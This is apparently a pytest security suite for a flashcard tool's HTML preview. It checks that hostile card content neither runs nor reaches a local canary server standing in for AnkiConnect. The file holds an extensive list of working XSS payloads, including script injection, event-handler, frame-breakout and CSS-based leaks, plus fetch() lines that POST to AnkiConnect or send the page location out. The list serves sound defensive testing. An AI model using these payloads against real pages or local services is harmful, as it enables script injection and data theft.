"""Hostile cards in the preview: nothing in them runs, and nothing leaves the page.

A canary stands for the world and for AnkiConnect, which listens on this computer and trusts every page
that comes from it. Each attack is first shown to work on a page without protection.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from html import escape
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from browsers import Browser, Page, Request, chromium, expect
from conftest import compiled
from image_files import raster
from metaflash.build import Build
from metaflash.diagnostics import Source, Span
from metaflash.kinds import KINDS
from metaflash.kinds.arrows import MAX_LABEL
from metaflash.notetype import CLOZE_FIELDS, FIELDS
from metaflash.preview import page as pages
from metaflash.preview.catalog import Catalog, Exhibit, renewed
from metaflash.preview.formulas import has_formula, typeset
from metaflash.preview.server import Board, Server
from metaflash.project import Folder
from metaflash.workspace import Compiled


class Canary(ThreadingHTTPServer):
    """A server that answers everything as AnkiConnect would, and remembers who came."""

    def __init__(self) -> None:
        self.seen: list[str] = []
        canary = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                canary.seen.append(f"{self.command} {self.path}")
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(b'{"result": ["Default"], "error": null}')

            do_POST = do_OPTIONS = do_HEAD = do_GET  # noqa: N815 - the library's names

            def log_message(self, *_: object) -> None:
                """Nothing."""

        super().__init__(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server_port}"


@pytest.fixture(scope="module")
def canary() -> Iterator[Canary]:
    with Canary() as server:
        threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
        yield server
        server.shutdown()


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as found:
        yield found


def payloads(url: str) -> dict[str, str]:
    """What a card might say, by what it tries; ``url`` is where it wants to go."""
    anki = f"fetch('{url}/anki',{{method:'POST',body:JSON.stringify({{action:'deckNames',version:6}})}})"
    leak = f"fetch('{url}/leak?'+encodeURIComponent(location))"
    script = f"{anki};{leak};top.pwned=1;window.pwned=1;alert(1)"
    quoted = escape(script)
    return {
        "script": f"<script>{script}</script>",
        "module": f'<script type="module">{script}</script>',
        "remote script": f'<script src="{url}/script.js"></script>',
        "broken out of the frame": f"</div></body></html></iframe><script>{script}</script>",
        "broken out of the attribute": f"\"'><script>{script}</script>",
        "broken out of the data": f"</script><script>{script}</script><!-- --><script>",
        "img onerror": f'<img src=x onerror="{quoted}">',
        "svg onload": f'<svg onload="{quoted}"><circle r="9"/></svg>',
        "svg script": f"<svg><script>{script}</script></svg>",
        "svg use": f'<svg><use href="{url}/use.svg#a"/></svg>',
        "svg image": f'<svg><image href="{url}/image.png" width="9" height="9"/></svg>',
        "svg animate": f'<svg><a><animate attributeName="href" values="javascript:{quoted}"/></a></svg>',
        "details": f'<details open ontoggle="{quoted}"><summary>x</summary></details>',
        "autofocus": f'<input autofocus onfocus="{quoted}">',
        "iframe": f'<iframe src="{url}/iframe"></iframe>',
        "iframe srcdoc": f'<iframe srcdoc="{escape(f"<script>{script}</script>")}"></iframe>',
        "iframe script": f'<iframe src="javascript:{quoted}"></iframe>',
        "object": f'<object data="{url}/object"></object>',
        "object svg": '<object data="data:image/svg+xml,<svg xmlns=%27http://www.w3.org/2000/svg%27 onload=%27top.pwned=1%27/>"></object>',
        "embed": f'<embed src="{url}/embed">',
        "refresh": f'<meta http-equiv="refresh" content="0;url={url}/refresh">',
        "base": f'<base href="{url}/"><img src="base.png">',
        "remote image": f'<img src="{url}/image.png">',
        "srcset": f'<img srcset="{url}/srcset.png 1x"><picture><source srcset="{url}/p.png"><img></picture>',
        "video": f'<video src="{url}/video" poster="{url}/poster" autoplay></video><audio src="{url}/a" autoplay></audio>',
        "link style": f'<link rel="stylesheet" href="{url}/style.css">',
        "link preload": f'<link rel="preload" as="image" href="{url}/preload"><link rel="prefetch" href="{url}/prefetch">',
        "link dns": f'<link rel="preconnect" href="{url}"><link rel="icon" href="{url}/icon">',
        "style import": f"<style>@import '{url}/import.css';</style>",
        "style url": f"<style>*{{background:url({url}/background.png)}}</style>",
        "style font": f"<style>@font-face{{font-family:x;src:url({url}/font)}}*{{font-family:x}}</style>",
        "style attribute": f'<p style="background:url({url}/attribute.png)">x</p>',
        "style over all": f'<p style="position:fixed;inset:0;background:red url({url}/over)">x</p>',
        "form": f'<form id="f" action="{url}/form"><button autofocus>x</button></form>',
        "policy of its own": f'<meta http-equiv="Content-Security-Policy" content="script-src *"><script>{script}</script>',
        "comment": "abc <!-- the rest",
        "open style": "<style>abc",
        "open plaintext": "<plaintext>",
        "open textarea": "<textarea>",
        "open template": f"<template><script>{script}</script>",
        "math": f'<math><mtext><img src=x onerror="{quoted}"></mtext></math>',
        "formula": f"\\(\\text{{<img src=x onerror={quoted}>}}\\)",
        "formula link": f"\\(\\href{{javascript:{quoted}}}{{x}}\\)",
        "formula style": f"\\(\\style{{background:url({url}/formula)}}{{x}}\\)",
        "media of the page": '<img src="list"><img src="/list"><img src="events">',
        "dollars": "$script ${script} $data $$",
    }


CLICKED = {
    "link": '<a href="{url}/link">go</a>',
    "link to this window": '<a href="{url}/self" target="_self">go</a>',
    "link to the page": '<a href="{url}/top" target="_top">go</a>',
    "link to a new window": '<a href="{url}/blank" target="_blank">go</a>',
    "script link": '<a href="javascript:top.pwned=1;alert(1)">go</a>',
    "ping": '<a href="#x" ping="{url}/ping">go</a>',
    "download": '<a href="{url}/download" download>go</a>',
    "submit": '<form action="{url}/submit" target="_top"><button>go</button></form>',
}


@contextmanager
def watched(browser: Browser, canary: Canary, allowed: tuple[str, ...]) -> Iterator[Page]:
    """A page on which nothing may happen but requests to what is ``allowed``; others may be tried, if
    the browser stops them for the page's policy before they are sent."""
    canary.seen.clear()
    context = browser.new_context()
    page = context.new_page()
    page.set_default_timeout(10_000)
    happened: list[str] = []
    asked: list[Request] = []
    context.on("request", lambda request: asked.append(request))  # noqa: PLW0108 - it takes no method of a list
    for event in ("dialog", "popup", "download", "pageerror"):
        page.on(event, lambda found, event=event: happened.append(f"{event} {found}"))
    yield page
    page.wait_for_timeout(300)
    assert page.evaluate("window.pwned") is None
    assert page.url.startswith(allowed)
    assert len(context.pages) == 1
    happened += [
        f"{request.url} {request.failure}"
        for request in asked
        if not _stopped(request) and not request.url.startswith((*allowed, "data:", "about:"))
    ]
    context.close()
    assert sorted(set(happened)) == []
    assert canary.seen == []


def _stopped(request: Request) -> bool:
    """Whether a request was stopped before it was sent: by a policy, as one to a local file, or because
    the card that asked was gone before the browser looked at the policy. What went out all the same,
    the canary would have seen."""
    return request.failure in {"csp", "origin", "net::ERR_ABORTED"} or (
        request.failure == "other" and request.url.startswith("file:")
    )


def raw(texts: list[str]) -> Build:
    """A deck whose notes hold HTML as no compiler would let it through, in every field."""
    facts = "".join(f"  - fact: Fact ==x==\n    id: f{i}\n" for i in range(len(texts)))
    built = compiled({"01.yaml": f"topic: T\ncards:\n{facts}"})
    notes = [
        note._replace(
            fields=tuple(
                f"{{{{c1::begin {text} end}}}}" if name == "Text"
                else "" if name in CLOZE_FIELDS
                else f"{value} n{at}" if name == "Kind"
                else value if name == "Id"
                else text
                for name, value in zip(FIELDS, note.fields, strict=True)
            ),
            tags=(text,),
            span=Span(Source(f"{text}.yaml", "x\n"), 0, 1),
        )
        for at, (note, text) in enumerate(zip(built.notes, texts, strict=True))
    ]  # fmt: skip
    assert built.deck
    deck = replace(built.deck, deck="".join(texts[:3]))
    return built._replace(deck=deck, notes=tuple(notes))


def through_all(page: Page, count: int) -> None:
    """Look at every card, by day and by night."""
    expect(page.locator("#count")).to_have_text(f"{count} cards")
    for i in range(count):
        expect(page.locator("[aria-selected=true]")).to_have_attribute("aria-posinset", str(i + 1))
        for side in ("#front", "#back"):
            expect(page.frame_locator(side).locator(f"article.n{i}")).to_be_attached()
        page.keyboard.press("d")
        page.wait_for_timeout(60)
        page.keyboard.press("j")


def test_the_attacks_are_real(browser: Browser, canary: Canary) -> None:
    canary.seen.clear()
    page = browser.new_page()
    page.on("dialog", lambda dialog: dialog.accept())
    tried = ("script", "img onerror", "iframe", "refresh", "style url", "remote image")
    for name in tried:
        page.goto(f"{canary.url}/ground")
        canary.seen.clear()
        page.set_content(payloads(canary.url)[name], wait_until="commit")
        page.wait_for_timeout(300)
        assert canary.seen, name
        if name == "script":
            assert "POST /anki" in canary.seen
    page.close()


def test_raw_html_in_a_card_does_nothing(browser: Browser, canary: Canary) -> None:
    texts = list(payloads(canary.url).values())
    catalog = Catalog((Exhibit(Path("cards"), raw(texts)),))
    with (
        Server(Board(catalog)) as server,
        watched(browser, canary, (server.address,)) as page,
    ):
        page.goto(server.address)
        expect(page.frame_locator("#front").locator("#qa")).to_contain_text("[...]")
        through_all(page, len(texts))


def test_raw_html_in_a_static_file_does_nothing(
    browser: Browser, canary: Canary, tmp_path: Path
) -> None:
    texts = list(payloads(canary.url).values())
    out = tmp_path / "all.html"
    out.write_bytes(pages.static(Catalog((Exhibit(Path("cards"), raw(texts)),))))
    with watched(browser, canary, (out.as_uri(),)) as page:
        page.goto(out.as_uri())
        through_all(page, len(texts))


@pytest.mark.parametrize("name", CLICKED)
def test_a_click_in_a_card_goes_nowhere(browser: Browser, canary: Canary, name: str) -> None:
    text = CLICKED[name].format(url=canary.url)
    catalog = Catalog((Exhibit(Path("cards"), raw([text])),))
    with (
        Server(Board(catalog)) as server,
        watched(browser, canary, (server.address, "chrome-error:")) as page,
    ):
        page.goto(server.address)
        target = page.frame_locator("#back").locator("#qa .cloze").locator("a, button").first
        target.click()
        page.wait_for_timeout(200)
        page.keyboard.press("d")
        expect(page.frame_locator("#back").locator("#qa")).to_contain_text("go")


def quoted(text: str) -> str:
    """A text in YAML's single quotes."""
    return "'" + text.replace("'", "''") + "'"


def test_what_a_teacher_writes_does_nothing(browser: Browser, canary: Canary) -> None:
    texts = [text.replace("{", "(").replace("}", ")") for text in payloads(canary.url).values()]
    cards = []
    for i, text in enumerate(texts):
        safe = quoted(text.replace("=", "\\="))
        fact = quoted(text.replace("=", "\\=") + " ==x::" + escape(canary.url) + "==")
        shared = "".join(
            f"    {key}: {quoted(text)}\n"
            for key in ("extra", "note", "section", "source", "alt")
        )  # fmt: skip
        shared += "    image: node.png\n"
        name = quoted(text[:MAX_LABEL])
        by_kind = {
            "fact": fact,
            "ask": f"{safe}\n    answer: {safe}",
            "term": f"{safe}\n    means: {safe}",
            "process": f"{safe}\n    about: {safe}\n    steps:\n      - one: {fact}",
            "picture": f"{safe}\n    boxes:\n      - one: {name}\n      - two: Two\n    arrows:\n      - one -> two",
        }
        assert set(by_kind) == set(KINDS)
        cards += [
            f"  - {kind}: {said}\n    id: {kind}{i}\n{shared}" for kind, said in by_kind.items()
        ]
    topic = quoted(payloads(canary.url)["script"])
    built = compiled(
        {
            "deck.yaml": f"deck: {quoted(topic[1:40])}\nid: bad-1\nsource: x\n",
            "<img src=x onerror=alert(1)>.yaml": f"topic: {topic}\ncards:\n" + "".join(cards),
            "media/node.png": raster("PNG"),
        }
    )
    kinds = {note.fields[list(FIELDS).index("Kind")].split()[0] for note in built.live}
    assert kinds == set(KINDS), [problem.message for problem in built.diagnostics][:5]
    assert built.media
    catalog = Catalog((Exhibit(Path("cards"), built),), built.diagnostics)
    with Server(Board(catalog)) as server, watched(browser, canary, (server.address,)) as page:
        page.goto(server.address)
        expect(page.locator("#count")).to_have_text(f"{built.cards} cards")
        for _ in range(0, built.cards, 3):
            for _ in range(3):
                page.keyboard.press("j")
            page.wait_for_timeout(20)


def test_what_is_wrong_is_told_without_running_it(browser: Browser, canary: Canary) -> None:
    script = payloads(canary.url)["img onerror"]
    facts = f"topic: T\ncards:\n  - fact: No blank {script}\n    {quoted(script)}: x\n    id: x\n"
    built = compiled({f"{script}.yaml": facts})
    folder = Folder(Path("cards"), Path("cards/deck.yaml"), ())
    catalog = renewed(Catalog(), Compiled(((folder, built),), built.diagnostics))
    assert catalog.errors
    with Server(Board(catalog)) as server, watched(browser, canary, (server.address,)) as page:
        page.goto(server.address)
        expect(page.locator("#problems")).to_contain_text("onerror")


@pytest.mark.parametrize(
    "tex",
    [
        r"\text{<b>bold</b>}",
        r"\text{&lt;script&gt;alert(1)&lt;/script&gt;}",
        r"\href{javascript:alert(1)}{x}",
        r"\style{background:url(x)}{x}",
        r"\class{card}{x}",
        r"\cssId{list}{x}",
        r"\color{red}{x}",
        "{" * 500,
        "x" * 3000,
        "<img src=x>",
    ],
)
def test_a_formula_that_is_not_only_mathematics_stays_as_it_is(tex: str) -> None:
    assert typeset(rf"a \({tex}\) b") == rf"a \({tex}\) b"


def test_a_formula_becomes_mathml() -> None:
    assert "<mfrac>" in typeset(r"\[\frac{a}{b} &lt; c\]")
    assert 'display="block"' in typeset(r"\[x\]")
    assert typeset("no formula, \\ only") == "no formula, \\ only"


@pytest.mark.parametrize(
    "html",
    [
        r'<svg aria-label="alpha\( leads to beta\)"><text>alpha</text></svg>',
        r"<p title='a > b \(x\)'>a</p>",
        r'<p title="\[x\] \(y\)">\( <b title="\) \(x\)">a</b>',
    ],
)
def test_a_formula_in_a_tag_stays_as_it_is(html: str) -> None:
    assert typeset(html) == html
    assert not has_formula(html)


def test_a_formula_beside_a_tag_is_found() -> None:
    assert has_formula(r'<p title="x">\(x\)</p>')
    assert has_formula(r"\[\class{card}{x}\]")
    assert has_formula(r"\(a <span>b</span>\)")
    assert "<math" in typeset(r'<p title="\(">\(x\)</p>')
